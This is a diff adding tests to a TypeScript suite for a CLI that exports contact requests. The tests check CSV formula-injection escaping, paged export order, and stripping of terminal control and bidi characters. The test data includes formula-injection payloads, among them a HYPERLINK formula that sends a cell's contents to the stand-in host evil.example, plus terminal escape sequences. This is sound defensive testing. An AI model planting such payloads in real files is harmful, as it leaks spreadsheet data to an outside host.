@@ -1,8 +1,13 @@
 import assert from "node:assert/strict";
+import { spawnSync } from "node:child_process";
+import { readFileSync } from "node:fs";
+import path from "node:path";
 import { type TestContext, test } from "node:test";
-import { parseCsv } from "./support/csv.ts";
+import Sqlite from "better-sqlite3";
+import { looseCells, parseCsv } from "./support/csv.ts";
 import { contactTyped, postJson, postMultipart, rubricForm } from "./support/forms.ts";
-import { newFolder, runCommand, startServer } from "./support/server.ts";
+import { addRequests } from "./support/requests.ts";
+import { executable, newFolder, runCommand, startServer } from "./support/server.ts";
 import { contact, sha256, threeFiles, uploadByApi, uploadForm } from "./support/upload.ts";
 
 /** Texts that break a careless CSV export, or run as formulas in a spreadsheet. */
@@ -18,6 +23,10 @@ async function startWithRequests(t: TestContext) {
   const files = threeFiles();
   const upload = await uploadByApi(server.url, uploadForm(files, { ...contact, ...nasty }));
   const { reference } = (await upload.json()) as { reference: string };
+  // Requests of earlier versions may have control characters.
+  const db = new Sqlite(server.databaseFile);
+  db.prepare("UPDATE contact_requests SET message = ?").run(nasty.message);
+  db.close();
   assert.equal((await postJson(server.url, "/api/contact", contactTyped)).status, 201);
   assert.equal((await postMultipart(server.url, "/latest-feature", rubricForm())).status, 303);
   const run = (...args: string[]) => runCommand(server.folder, args);
@@ -115,4 +124,117 @@ test("an export without a format, or with an unknown one, is a usage error", asy
     assert.equal(code, 2);
     assert.match(err, /^rubricon: [^\n]*--format/);
   }
+});
+
+/** Texts that become formulas where a program splits the file by semicolons or tabs. */
+const hiddenFormulas = [
+  "x;=1+1;y",
+  "x\t=1+1\ty",
+  'Hello\n=HYPERLINK("http://evil.example/?"&A1,"click");2',
+  "Hello\r@SUM(A1)",
+  "Hello\u2028-1+1",
+  "\0=1+1",
+  "x;\0=1+1",
+  'x;"=1+1',
+  'x;""" \u200b=1+1',
+  'x\n";"=1+1";',
+  "x; ＝1+1",
+  '";=1+1;"',
+  "x;\u3164+1",
+];
+
+/** Parses as Python's csv module does; null if there is no Python. */
+function pythonCells(text: string, separator: string): string[] | null {
+  const script = `import csv, io, json, sys
+text = sys.stdin.buffer.read().decode("utf-8-sig")
+print(json.dumps([cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=sys.argv[1]) for cell in row]))`;
+  const { error, status, stdout } = spawnSync("python3", ["-c", script, separator], {
+    input: text,
+    encoding: "utf8",
+    maxBuffer: 1e8,
+  });
+  return error || status !== 0 ? null : JSON.parse(stdout);
+}
+
+test("a CSV export has no formula, whether it is split by commas, semicolons or tabs", async (t) => {
+  const server = await startServer(t);
+  addRequests(server.databaseFile, hiddenFormulas.length);
+  const db = new Sqlite(server.databaseFile);
+  const change = db.prepare(
+    "UPDATE contact_requests SET name = ?, institution = ?, message = ? WHERE id = ?",
+  );
+  for (const [index, text] of hiddenFormulas.entries()) change.run(text, text, text, index + 1);
+  db.close();
+  const { out } = await runCommand(server.folder, ["requests", "export", "--format", "csv"]);
+  const formula = /^[\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠]/u;
+  for (const separator of [",", ";", "\t"]) {
+    const cells = [...looseCells(out, separator), ...(pythonCells(out, separator) ?? [])];
+    assert.ok(cells.length > 13 * 3, separator);
+    assert.deepEqual(
+      cells.filter((cell) => formula.test(cell)),
+      [],
+      JSON.stringify(separator),
+    );
+  }
+  assert.doesNotMatch(out, /\0/);
+  const rows = parseCsv(out);
+  assert.equal(rows.length, hiddenFormulas.length);
+  assert.ok(rows.some(({ name }) => name === "x;'=1+1;y"));
+});
+
+test("exports are read in parts: each request once, newest first", async (t) => {
+  const server = await startServer(t);
+  addRequests(server.databaseFile, 1001);
+  const run = (...args: string[]) => runCommand(server.folder, args);
+  const exported = JSON.parse((await run("requests", "export", "--format", "json")).out);
+  const rows = parseCsv((await run("requests", "export", "--format", "csv")).out);
+  const expected = Array.from({ length: 1001 }, (_, index) => `Message ${1001 - index}`);
+  for (const requests of [exported, rows] as { message: string }[][]) {
+    assert.deepEqual(
+      requests.map(({ message }) => message),
+      expected,
+    );
+  }
+  for (const { reference, emails, files } of exported) {
+    assert.deepEqual([emails.length, files], [1, []], reference);
+  }
+  const subject = await run("subject", "export", "reader@school.example", "--out", "out");
+  assert.equal(subject.code, 0, subject.err);
+  const document = JSON.parse(readFileSync(path.join(server.folder, "out/subject.json"), "utf8"));
+  assert.equal(document.contact_requests.length, 1001);
+  assert.equal(
+    new Set(document.outbox.map(({ reference }: { reference: string }) => reference)).size,
+    1001,
+  );
+});
+
+test("on a terminal an export has no control character and no bidirectional override", async (t) => {
+  if (spawnSync("script", ["--version"]).error) {
+    t.skip("script, which provides a terminal, is not installed");
+    return;
+  }
+  const server = await startServer(t);
+  addRequests(server.databaseFile, 1);
+  const db = new Sqlite(server.databaseFile);
+  const hidden = "a\u001b[31mb\u009bc\u202ed\u2066e\rf";
+  db.prepare("UPDATE contact_requests SET name = ?, message = ?").run(hidden, hidden);
+  db.close();
+  const onTerminal = (command: string) =>
+    spawnSync("script", ["-qec", `${executable} ${command}`, "/dev/null"], {
+      cwd: server.folder,
+      encoding: "utf8",
+      timeout: 20_000,
+    }).stdout;
+  for (const command of [
+    "export --format csv",
+    "export --format json",
+    "list",
+    "show AAAA-AAAA-2222",
+  ]) {
+    const out = onTerminal(`requests ${command}`);
+    assert.match(out, /a(�|\\u001b)\[31mb(�|\\u009b)c(�|\\u202e)d(�|\\u2066)e/, command);
+    assert.doesNotMatch(out.replaceAll("\r\n", ""), /[\p{Cc}\p{Bidi_Control}]/u, command);
+  }
+  const piped = await runCommand(server.folder, ["requests", "export", "--format", "csv"]);
+  assert.ok(piped.out.includes(hidden), "a file has the exact text");
 });
